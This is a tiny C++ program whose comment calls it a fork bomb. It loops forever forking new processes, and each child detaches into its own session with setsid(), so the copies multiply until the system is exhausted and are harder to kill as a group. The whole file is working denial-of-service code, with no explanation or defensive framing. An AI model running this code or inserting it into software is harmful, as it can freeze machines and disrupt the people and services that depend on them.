// A fork bomb whose every process leads a session of its own.
#include <unistd.h>

int main() {
  for (;;) {
    if (::fork() == 0) ::setsid();
  }
}
